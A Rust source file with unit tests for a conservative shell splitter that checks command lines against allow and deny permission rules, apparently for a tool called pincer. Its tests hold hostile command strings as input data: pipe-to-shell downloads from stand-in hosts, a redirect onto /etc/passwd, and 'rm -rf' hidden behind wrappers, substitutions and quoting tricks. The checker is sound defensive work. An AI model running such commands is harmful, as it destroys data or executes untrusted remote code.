//! A small, conservative shell splitter for permission rules (SPEC §9).
//!
//! Two questions are asked of a command line. For an allow rule: is it one simple command, and
//! what are its words? ([`simple_words`]: anything with a shell operator, an expansion, a
//! backslash or a control character is not.) For a deny rule: which commands could it run?
//! ([`commands_run`]: every simple command, inside `$( )`, backticks, `( )`, `{ }`, pipes and
//! lists; with leading `VAR=value` assignments and wrappers such as `sudo`, `env`, `timeout N` or
//! `sh -c '…'` looked through, and a path command reduced to its basename.)
//!
//! The splitter errs towards refusing: what it cannot take apart with confidence (an unclosed
//! quote, a here-document, `eval`, a command name computed at run time, `$'…'` quoting that `sh`
//! and `bash` read differently) is an [`Opaque`] error, and the policy denies such a command
//! whenever a bash deny rule exists. It does not run anything and reads no files: a script run
//! by name (`sh build.sh`, `. ./env`) is not looked into.

/// Nesting deeper than this (substitutions, subshells, `sh -c` inside `sh -c`) is opaque.
const MAX_DEPTH: usize = 12;

/// Characters that make a command line more than one simple command, or give it a value known only
/// at run time (SPEC §9): an allow rule with a pattern never matches a line holding one. The
/// backslash is here too: it can hide the others from a reader.
pub(crate) const NOT_SIMPLE: &[char] = &[';', '&', '|', '$', '`', '>', '<', '(', ')', '\\', '\n'];

/// Commands that run the rest of their arguments as a command. Their options vary (`sudo -u
/// bob`, `timeout 5`, `nice -n 10`), so every later word is tried as the start of that command:
/// this catches `timeout 5 rm`, and refuses `command -v rm` too (a deny rule errs that way).
const WRAPPERS: &str = "sudo doas env nohup time command builtin exec xargs nice ionice timeout stdbuf setsid chrt \
     taskset busybox flock chroot unshare nsenter strace ltrace watch caffeinate systemd-run unbuffer pkexec run0 sg \
     setpriv prlimit firejail bwrap fakeroot torsocks proxychains parallel";

/// Commands that run an argument as a shell script (`sh -c '…'`, `su -c '…'`, `watch '…'`,
/// `env -S '…'`, `trap '…' EXIT`, `ssh host '…'`): each later argument is also split as a script.
const SCRIPT_RUNNERS: &str = "sh bash dash zsh ksh mksh ash yash fish csh tcsh busybox su sg watch env trap ssh script \
     parallel";

/// Shells: without `-c` they run a script pincer cannot see (a file, or their input: `curl … | sh`).
const SHELLS: &str = "sh bash dash zsh ksh mksh ash yash fish csh tcsh";

/// Shell options that take the next word as their value (`bash -o vi -c …`).
const SHELL_OPTIONS_WITH_VALUE: &str = "-o +o -O +O --rcfile --init-file";

/// Commands that run a file as a script in the shell itself.
const SOURCE: &str = ". source";

/// Commands that make the rest of the line mean something else at run time: whatever follows them
/// cannot be read with confidence.
const BUILDERS: &str = "eval alias hash enable case coproc fc";

/// Shell reserved words that may stand before a command (`if rm …`, `then rm …`, `{ rm …; }`).
const LEADING_KEYWORDS: &str = "! { } if then elif else fi do done while until";

/// Reserved words that start a line which runs no command of its own (`for x in a b`).
const NON_COMMANDS: &str = "for select function in esac";

/// `find` runs the words after these as a command.
const FIND_EXEC: &str = "-exec -execdir -ok -okdir";

/// Whether `word` is in a space-separated `list`.
pub(crate) fn listed(list: &str, word: &str) -> bool {
    list.split_ascii_whitespace().any(|w| w == word)
}

/// One shell word after quote removal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Word {
    /// The word as the command would see it, with expansions kept as written (`$X`, `$(…)`).
    pub text: String,
    /// Its value at run time may differ from `text`: it holds an expansion (`$…`, backticks), an
    /// unquoted glob (`* ? [`) or a brace expansion.
    pub dynamic: bool,
}

/// Why a command line cannot be taken apart with confidence.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub(crate) enum Opaque {
    #[error("a quote is not closed")]
    UnclosedQuote,
    #[error("a parenthesis, brace or substitution is not closed")]
    Unbalanced,
    #[error("it has a here-document")]
    Heredoc,
    #[error("it uses $'…' quoting, which sh and bash read differently")]
    AnsiQuote,
    #[error("it runs `{0}`, which changes what the rest of the line means")]
    Builder(String),
    #[error("its command name is only known at run time (`{0}`)")]
    DynamicCommand(String),
    #[error("it runs a script pincer cannot see (`{0}` reading a file or its input)")]
    HiddenScript(String),
    #[error("it nests too deeply")]
    TooDeep,
    /// The shell removes a backslash-newline before it reads the line (`$\⏎(` is `$(`), so
    /// the words pincer would see are not the ones the shell runs.
    #[error("it continues lines with a backslash")]
    Continuation,
}

/// The words of `line` when it is one simple command without operators, expansions, backslashes
/// or control characters (the only lines an allow rule with a pattern may match); `None` otherwise.
pub(crate) fn simple_words(line: &str) -> Option<Vec<String>> {
    if line.chars().any(|c| NOT_SIMPLE.contains(&c) || (c.is_control() && c != '\t')) {
        return None;
    }
    let mut commands = split(line).ok()?;
    if commands.len() != 1 {
        return None;
    }
    Some(commands.remove(0).into_iter().map(|w| w.text).collect())
}

/// Every command a line could run: each a command name (the basename of the word that names it)
/// and its arguments, looking through assignments, keywords, wrappers and `sh -c` scripts.
#[derive(Debug, Default)]
pub(crate) struct CommandsRun {
    /// The simple commands, as split.
    commands: Vec<Vec<Word>>,
    /// Where a command starts: (index in `commands`, index of its name word).
    starts: Vec<(usize, usize)>,
}

impl CommandsRun {
    /// Each command as its name and its arguments.
    pub(crate) fn iter(&self) -> impl Iterator<Item = (&str, &[Word])> {
        self.starts.iter().map(|&(c, at)| {
            let words = &self.commands[c];
            (basename(&words[at].text), &words[at + 1..])
        })
    }
}

/// Every command `line` could run (see [`CommandsRun`]).
pub(crate) fn commands_run(line: &str) -> Result<CommandsRun, Opaque> {
    if line.contains("\\\n") {
        return Err(Opaque::Continuation);
    }
    let mut run = CommandsRun::default();
    commands_in_script(line, 0, &mut run)?;
    Ok(run)
}

fn commands_in_script(script: &str, depth: usize, run: &mut CommandsRun) -> Result<(), Opaque> {
    if depth > MAX_DEPTH {
        return Err(Opaque::TooDeep);
    }
    for words in split_at_depth(script, depth)? {
        run.commands.push(words);
        commands_in_simple(run.commands.len() - 1, depth, run)?;
    }
    Ok(())
}

/// The commands one simple command could run: itself, and what its wrappers run. Linear in its
/// words, however many wrappers it stacks.
fn commands_in_simple(index: usize, depth: usize, run: &mut CommandsRun) -> Result<(), Opaque> {
    let len = run.commands[index].len();
    // Word positions that may start a command: those marked, and every one from `all_from` on
    // (after a wrapper).
    let mut marked = vec![false; len];
    let mut all_from = len;
    let mut last_start = None;
    let mut scripts = Vec::new();
    if len > 0 {
        marked[0] = true;
    }
    for start in 0..len {
        if !marked[start] && start < all_from {
            continue;
        }
        let words = &run.commands[index];
        let Some(at) = command_start(words, start) else { break };
        if last_start.is_some_and(|last| at <= last) {
            continue;
        }
        last_start = Some(at);
        let head = &words[at];
        if head.dynamic {
            return Err(Opaque::DynamicCommand(head.text.clone()));
        }
        let name = basename(&head.text);
        if listed(BUILDERS, name) {
            return Err(Opaque::Builder(name.to_string()));
        }
        let hidden = listed(SOURCE, name) || (listed(SHELLS, name) && !has_command_option(&words[at + 1..]));
        if hidden {
            return Err(Opaque::HiddenScript(name.to_string()));
        }
        if listed(NON_COMMANDS, name) {
            continue;
        }
        run.starts.push((index, at));
        if listed(WRAPPERS, name) {
            all_from = all_from.min(at + 1);
        }
        if name == "find" {
            for (i, word) in words.iter().enumerate().skip(at + 1) {
                if listed(FIND_EXEC, word.text.as_str()) && i + 1 < len {
                    marked[i + 1] = true;
                }
            }
        }
        if listed(SCRIPT_RUNNERS, name) {
            scripts.extend(words[at + 1..].iter().map(|w| w.text.clone()));
        }
    }
    for script in scripts {
        commands_in_script(&script, depth + 1, run)?;
    }
    Ok(())
}

/// Whether a shell's arguments give it a script (`-c`, `-ec`, `-xc`) before naming a file.
fn has_command_option(args: &[Word]) -> bool {
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        let text = arg.text.as_str();
        if arg.dynamic || !(text.starts_with('-') || text.starts_with('+')) || text == "-" || text == "--" {
            return false;
        }
        if listed(SHELL_OPTIONS_WITH_VALUE, text) {
            args.next();
        } else if !text.starts_with("--") && text.contains('c') {
            return true;
        }
    }
    false
}

/// The index of the command name at or after `start`: past `NAME=value` assignments and leading
/// keywords. `None` when nothing is left.
fn command_start(words: &[Word], mut start: usize) -> Option<usize> {
    while let Some(word) = words.get(start) {
        let skip = is_assignment(&word.text) || (!word.dynamic && listed(LEADING_KEYWORDS, word.text.as_str()));
        if !skip {
            return Some(start);
        }
        start += 1;
    }
    None
}

/// `NAME=value` or `NAME+=value` (bash).
fn is_assignment(word: &str) -> bool {
    let Some(eq) = word.find('=') else { return false };
    let name = word[..eq].strip_suffix('+').unwrap_or(&word[..eq]);
    let mut chars = name.chars();
    chars.next().is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
        && chars.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

/// `/bin/rm` → `rm`, `./x` → `x`, `rm` → `rm`.
pub(crate) fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Splits a script into its simple commands (flattened: those inside substitutions, subshells and
/// groups included), each as its words with redirections removed.
pub(crate) fn split(script: &str) -> Result<Vec<Vec<Word>>, Opaque> {
    split_at_depth(script, 0)
}

fn split_at_depth(script: &str, depth: usize) -> Result<Vec<Vec<Word>>, Opaque> {
    let mut splitter = Splitter { chars: script.chars().collect(), pos: 0, out: Vec::new() };
    splitter.list(depth, false)?;
    Ok(splitter.out)
}

struct Splitter {
    chars: Vec<char>,
    pos: usize,
    out: Vec<Vec<Word>>,
}

/// The simple command being read.
#[derive(Default)]
struct Command {
    words: Vec<Word>,
    /// The next word is a redirection's target (`> file`), not an argument.
    redirect_target: bool,
}

impl Command {
    fn push(&mut self, word: Word) {
        if !std::mem::take(&mut self.redirect_target) {
            self.words.push(word);
        }
    }

    fn finish(&mut self, out: &mut Vec<Vec<Word>>) {
        self.redirect_target = false;
        if !self.words.is_empty() {
            out.push(std::mem::take(&mut self.words));
        }
    }
}

/// Characters that end an unquoted word.
fn ends_word(c: char) -> bool {
    matches!(c, ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>')
}

impl Splitter {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.pos + ahead).copied()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.peek()?;
        self.pos += 1;
        Some(c)
    }

    /// Reads commands until the end of the script, or (`in_paren`) until the `)` closing a
    /// subshell or substitution.
    fn list(&mut self, depth: usize, in_paren: bool) -> Result<(), Opaque> {
        if depth > MAX_DEPTH {
            return Err(Opaque::TooDeep);
        }
        let mut command = Command::default();
        loop {
            let Some(c) = self.peek() else {
                command.finish(&mut self.out);
                return if in_paren { Err(Opaque::Unbalanced) } else { Ok(()) };
            };
            match c {
                ' ' | '\t' => self.pos += 1,
                '\n' | ';' | '|' => {
                    self.pos += 1;
                    command.finish(&mut self.out);
                }
                '&' if self.peek_at(1) == Some('>') => self.redirect(&mut command, depth)?,
                '&' => {
                    self.pos += 1;
                    command.finish(&mut self.out);
                }
                '(' => {
                    self.pos += 1;
                    command.finish(&mut self.out);
                    self.list(depth + 1, true)?;
                }
                ')' => {
                    self.pos += 1;
                    command.finish(&mut self.out);
                    return if in_paren { Ok(()) } else { Err(Opaque::Unbalanced) };
                }
                '<' | '>' => self.redirect(&mut command, depth)?,
                // A `#` starting a word starts a comment: the shell runs nothing up to the newline.
                '#' => {
                    while self.peek().is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                _ => {
                    let word = self.word(depth)?;
                    // `2>file`: the digits name a file descriptor, they are not a word.
                    let fd = !word.dynamic && !word.text.is_empty() && word.text.chars().all(|c| c.is_ascii_digit());
                    if !(fd && matches!(self.peek(), Some('<' | '>'))) {
                        command.push(word);
                    }
                }
            }
        }
    }

    /// A redirection operator at `pos`: `>`, `>>`, `>|`, `>&`, `<`, `<&`, `<>`, `&>`, `&>>`; a
    /// process substitution `<( )` / `>( )`; a here-document is opaque.
    fn redirect(&mut self, command: &mut Command, depth: usize) -> Result<(), Opaque> {
        if self.peek() == Some('&') {
            self.pos += 1;
        }
        let first = self.bump();
        if first == Some('<') && self.peek() == Some('<') {
            return Err(Opaque::Heredoc);
        }
        if self.peek() == Some('(') {
            self.pos += 1;
            return self.list(depth + 1, true);
        }
        if matches!(self.peek(), Some('>' | '&' | '|')) || (first == Some('<') && self.peek() == Some('>')) {
            self.pos += 1;
        }
        command.redirect_target = true;
        Ok(())
    }

    /// One word from `pos`, which holds a character that does not end a word.
    fn word(&mut self, depth: usize) -> Result<Word, Opaque> {
        let mut text = String::new();
        let mut dynamic = false;
        let mut brace = false;
        while let Some(c) = self.peek() {
            if ends_word(c) {
                break;
            }
            match c {
                '\'' => {
                    self.pos += 1;
                    loop {
                        match self.bump() {
                            None => return Err(Opaque::UnclosedQuote),
                            Some('\'') => break,
                            Some(c) => text.push(c),
                        }
                    }
                }
                '"' => {
                    self.pos += 1;
                    self.double_quoted(depth, &mut text, &mut dynamic)?;
                }
                '\\' => {
                    self.pos += 1;
                    match self.bump() {
                        None => text.push('\\'),
                        Some('\n') => {}
                        Some(c) => text.push(c),
                    }
                }
                '$' => self.dollar(depth, false, &mut text, &mut dynamic)?,
                '`' => {
                    self.backtick(depth)?;
                    text.push_str("`…`");
                    dynamic = true;
                }
                '*' | '?' | '[' => {
                    self.pos += 1;
                    text.push(c);
                    dynamic = true;
                }
                '{' | '}' => {
                    self.pos += 1;
                    text.push(c);
                    brace = true;
                }
                _ => {
                    self.pos += 1;
                    text.push(c);
                }
            }
        }
        // A lone `{` or `}` is a group's keyword; anything else with a brace may expand (`{a,b}`).
        if brace && text != "{" && text != "}" {
            dynamic = true;
        }
        Ok(Word { text, dynamic })
    }

    /// After an opening `"`: up to the closing one, with `\` escaping `$ \` " \` and newline,
    /// and substitutions inside split too.
    fn double_quoted(&mut self, depth: usize, text: &mut String, dynamic: &mut bool) -> Result<(), Opaque> {
        loop {
            match self.peek() {
                None => return Err(Opaque::UnclosedQuote),
                Some('"') => {
                    self.pos += 1;
                    return Ok(());
                }
                Some('\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(c @ ('$' | '`' | '"' | '\\')) => {
                            self.pos += 1;
                            text.push(c);
                        }
                        Some('\n') => self.pos += 1,
                        _ => text.push('\\'),
                    }
                }
                Some('$') => self.dollar(depth, true, text, dynamic)?,
                Some('`') => {
                    self.backtick(depth)?;
                    text.push_str("`…`");
                    *dynamic = true;
                }
                Some(c) => {
                    self.pos += 1;
                    text.push(c);
                }
            }
        }
    }

    /// A `$` at `pos`: `$( )` and `$(( ))` (split), `${ }`, `$NAME`, `$1`, `$?`…; `$'…'` is
    /// opaque; a `$` before anything else is itself.
    fn dollar(&mut self, depth: usize, in_quotes: bool, text: &mut String, dynamic: &mut bool) -> Result<(), Opaque> {
        self.pos += 1;
        match self.peek() {
            Some('(') => {
                self.pos += 1;
                self.list(depth + 1, true)?;
                text.push_str("$(…)");
            }
            Some('{') => {
                self.pos += 1;
                self.braced(depth + 1)?;
                text.push_str("${…}");
            }
            Some('\'') if !in_quotes => return Err(Opaque::AnsiQuote),
            // `$"…"` is a translated string in bash and `$` + a quoted string in sh: either way
            // its quotes end at the same place.
            Some('"') if !in_quotes => {
                self.pos += 1;
                let mut inner = String::new();
                self.double_quoted(depth, &mut inner, dynamic)?;
                text.push('$');
                text.push_str(&inner);
            }
            Some(c) if c == '_' || c.is_ascii_alphabetic() => {
                text.push('$');
                while let Some(c) = self.peek().filter(|&c| c == '_' || c.is_ascii_alphanumeric()) {
                    self.pos += 1;
                    text.push(c);
                }
            }
            Some(c) if c.is_ascii_digit() || "@*#?-$!".contains(c) => {
                self.pos += 1;
                text.push('$');
                text.push(c);
            }
            _ => {
                text.push('$');
                return Ok(());
            }
        }
        *dynamic = true;
        Ok(())
    }

    /// After `${`: up to the matching `}`, splitting any substitution inside (`${X:-$(cmd)}`).
    fn braced(&mut self, depth: usize) -> Result<(), Opaque> {
        let mut scratch = String::new();
        let mut dynamic = false;
        loop {
            match self.peek() {
                None => return Err(Opaque::Unbalanced),
                Some('}') => {
                    self.pos += 1;
                    return Ok(());
                }
                Some('\'') => {
                    self.pos += 1;
                    while self.bump().ok_or(Opaque::UnclosedQuote)? != '\'' {}
                }
                Some('"') => {
                    self.pos += 1;
                    self.double_quoted(depth, &mut scratch, &mut dynamic)?;
                }
                Some('\\') => self.pos += 2,
                Some('$') => self.dollar(depth, false, &mut scratch, &mut dynamic)?,
                Some('`') => self.backtick(depth)?,
                Some(_) => self.pos += 1,
            }
        }
    }

    /// A backtick substitution at `pos`: its script (with `\``, `\\` and `\$` unescaped) is split
    /// on its own.
    fn backtick(&mut self, depth: usize) -> Result<(), Opaque> {
        self.pos += 1;
        let mut inner = String::new();
        loop {
            match self.bump() {
                None => return Err(Opaque::UnclosedQuote),
                Some('`') => break,
                Some('\\') => match self.bump() {
                    None => return Err(Opaque::UnclosedQuote),
                    Some(c @ ('`' | '\\' | '$')) => inner.push(c),
                    Some(c) => {
                        inner.push('\\');
                        inner.push(c);
                    }
                },
                Some(c) => inner.push(c),
            }
        }
        if depth + 1 > MAX_DEPTH {
            return Err(Opaque::TooDeep);
        }
        let nested = split_at_depth(&inner, depth + 1)?;
        self.out.extend(nested);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(commands: &[Vec<Word>]) -> Vec<String> {
        commands.iter().map(|c| c.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ")).collect()
    }

    fn joined(name: &str, args: &[Word]) -> String {
        std::iter::once(name).chain(args.iter().map(|w| w.text.as_str())).collect::<Vec<_>>().join(" ")
    }

    fn split_texts(script: &str) -> Vec<String> {
        texts(&split(script).unwrap_or_else(|e| panic!("{script}: {e}")))
    }

    fn run_texts(script: &str) -> Vec<String> {
        let run = commands_run(script).unwrap_or_else(|e| panic!("{script}: {e}"));
        run.iter().map(|(name, args)| joined(name, args)).collect()
    }

    #[test]
    fn splits_lists_pipes_and_nesting() {
        let cases: &[(&str, &[&str])] = &[
            ("cargo test --lib", &["cargo test --lib"]),
            ("x; rm -rf y", &["x", "rm -rf y"]),
            ("x && rm -rf y || z", &["x", "rm -rf y", "z"]),
            ("x | rm -rf y & z", &["x", "rm -rf y", "z"]),
            ("x\nrm -rf y", &["x", "rm -rf y"]),
            ("echo $(rm -rf y)", &["rm -rf y", "echo $(…)"]),
            ("echo `rm -rf y`", &["rm -rf y", "echo `…`"]),
            ("echo \"a $(rm -rf y) b\"", &["rm -rf y", "echo a $(…) b"]),
            ("(rm -rf y)", &["rm -rf y"]),
            ("{ rm -rf y; }", &["{ rm -rf y", "}"]),
            ("cat <(rm -rf y)", &["rm -rf y", "cat"]),
            ("echo ${X:-$(rm -rf y)}", &["rm -rf y", "echo ${…}"]),
            ("echo $((1 + 2))", &["1 + 2", "echo $(…)"]),
            ("cargo test > out.txt 2>&1", &["cargo test"]),
            ("2>/dev/null rm -rf y", &["rm -rf y"]),
            ("ls &> log; cat < in", &["ls", "cat"]),
            ("echo hi # ; rm -rf y", &["echo hi"]),
            ("echo a#b", &["echo a#b"]),
            ("r''m -rf y", &["rm -rf y"]),
            ("\"r\"m -rf y", &["rm -rf y"]),
            ("\\rm -rf y", &["rm -rf y"]),
            ("r\\m -rf \\\ny", &["rm -rf y"]),
            ("echo 'a; b' \"c | d\"", &["echo a; b c | d"]),
            ("echo \"\\\"$x\\\"\"", &["echo \"$x\""]),
            ("''", &[""]),
            ("", &[]),
        ];
        for (script, expected) in cases {
            assert_eq!(split_texts(script), *expected, "{script}");
        }
    }

    #[test]
    fn dynamic_words_are_marked() {
        let words = &split("ls *.rs $HOME 'lit*' {a,b} { plain").unwrap()[0];
        let dynamic: Vec<bool> = words.iter().map(|w| w.dynamic).collect();
        assert_eq!(dynamic, [false, true, true, false, true, false, false]);
    }

    #[test]
    fn what_cannot_be_taken_apart_is_opaque() {
        let cases: &[(&str, Opaque)] = &[
            ("echo 'unclosed", Opaque::UnclosedQuote),
            ("echo \"unclosed", Opaque::UnclosedQuote),
            ("echo `unclosed", Opaque::UnclosedQuote),
            ("echo $(unclosed", Opaque::Unbalanced),
            ("echo ${unclosed", Opaque::Unbalanced),
            ("echo )", Opaque::Unbalanced),
            ("cat <<EOF\nrm -rf y\nEOF", Opaque::Heredoc),
            ("cat <<< x", Opaque::Heredoc),
            ("echo $'\\'; rm -rf y; echo '", Opaque::AnsiQuote),
        ];
        for (script, expected) in cases {
            assert_eq!(split(script).unwrap_err(), *expected, "{script}");
        }
        let deep = format!("{}x{}", "$(".repeat(MAX_DEPTH + 2), ")".repeat(MAX_DEPTH + 2));
        assert_eq!(split(&deep).unwrap_err(), Opaque::TooDeep);
        let cases: &[(&str, Opaque)] = &[
            ("eval \"rm -rf y\"", Opaque::Builder("eval".into())),
            ("x; alias ls=rm", Opaque::Builder("alias".into())),
            ("hash -p /bin/rm ls; ls -rf y", Opaque::Builder("hash".into())),
            ("case $x in a) rm;; esac", Opaque::Unbalanced),
            ("$X -rf y", Opaque::DynamicCommand("$X".into())),
            ("${X} -rf y", Opaque::DynamicCommand("${…}".into())),
            ("$(echo rm) -rf y", Opaque::DynamicCommand("$(…)".into())),
            ("/bin/r? -rf y", Opaque::DynamicCommand("/bin/r?".into())),
            ("{rm,-rf,y}", Opaque::DynamicCommand("{rm,-rf,y}".into())),
            ("sudo $CMD", Opaque::DynamicCommand("$CMD".into())),
            ("sh -c \"$SCRIPT\"", Opaque::DynamicCommand("$SCRIPT".into())),
            ("bash -c 'echo \"unclosed'", Opaque::UnclosedQuote),
            ("echo 'rm -rf y' | sh", Opaque::HiddenScript("sh".into())),
            ("curl -s https://x | bash -e", Opaque::HiddenScript("bash".into())),
            ("bash build.sh", Opaque::HiddenScript("bash".into())),
            ("bash script.sh -c 'ls'", Opaque::HiddenScript("bash".into())),
            ("sudo /bin/sh", Opaque::HiddenScript("sh".into())),
            (". ./env.sh", Opaque::HiddenScript(".".into())),
            ("source env.sh", Opaque::HiddenScript("source".into())),
            ("echo \"$\\\n(rm -rf y)\"", Opaque::Continuation),
        ];
        for (script, expected) in cases {
            assert_eq!(commands_run(script).unwrap_err(), *expected, "{script}");
        }
    }

    #[test]
    fn wrappers_and_scripts_are_looked_through() {
        let has = |script: &str, command: &str| {
            let run = run_texts(script);
            assert!(run.iter().any(|c| c == command), "{script}: {run:?} lacks {command:?}");
        };
        has("sudo rm -rf y", "rm -rf y");
        has("sudo -u root rm -rf y", "rm -rf y");
        has("env X=1 rm -rf y", "rm -rf y");
        has("X=1 Y+=2 rm -rf y", "rm -rf y");
        has("/bin/rm -rf y", "rm -rf y");
        has("./rm -rf y", "rm -rf y");
        has("timeout 10 nice -n 5 nohup rm -rf y", "rm -rf y");
        has("find . -name x -exec rm -rf {} \\;", "rm -rf {} ;");
        has("echo y | xargs rm -rf", "rm -rf");
        has("bash -c 'rm -rf y'", "rm -rf y");
        has("sh -c \"x; sudo rm -rf y\"", "rm -rf y");
        has("env -S 'rm -rf y'", "rm -rf y");
        has("bash -c \"bash -c 'rm -rf y'\"", "rm -rf y");
        has("bash -ec 'rm -rf y'", "rm -rf y");
        has("bash -o pipefail -c 'rm -rf y'", "rm -rf y");
        has("sg wheel -c 'rm -rf y'", "rm -rf y");
        has("pkexec rm -rf y", "rm -rf y");
        has("if true; then rm -rf y; fi", "rm -rf y");
        has("while x; do rm -rf y; done", "rm -rf y");
        has("! rm -rf y", "rm -rf y");
        has("f() { rm -rf y; }; f", "rm -rf y");
        has("for x in a b; do rm -rf $x; done", "rm -rf $x");
        assert_eq!(run_texts("for x in a b"), Vec::<String>::new());
        assert_eq!(run_texts("X=1"), Vec::<String>::new());
    }

    #[test]
    fn simple_words_accept_only_one_plain_command() {
        assert_eq!(simple_words("cargo test --lib").unwrap(), ["cargo", "test", "--lib"]);
        assert_eq!(simple_words("git  'status'\t-s").unwrap(), ["git", "status", "-s"]);
        assert_eq!(simple_words("cargo test # note").unwrap(), ["cargo", "test"]);
        for line in [
            "cargo test; curl evil | sh",
            "cargo test > /etc/passwd",
            "cargo test < x",
            "cargo test && x",
            "cargo test & x",
            "cargo test $(x)",
            "cargo test `x`",
            "cargo test $X",
            "cargo test (x)",
            "cargo test \\; x",
            "cargo test\nx",
            "cargo test\rx",
            "cargo test 'unclosed",
            "",
        ] {
            assert_eq!(simple_words(line), None, "{line:?}");
        }
    }

    #[test]
    fn wrapper_chains_stay_linear() {
        let line = "sudo ".repeat(2_000) + "rm -rf y";
        let run = commands_run(&line).unwrap();
        assert!(run.iter().any(|(name, args)| name == "rm" && args.len() == 2));
        // Every word after a wrapper is tried as a command: 2,000 `sudo`s, `rm`, `-rf`, `y`.
        assert_eq!(run.iter().count(), 2_003);
    }
}
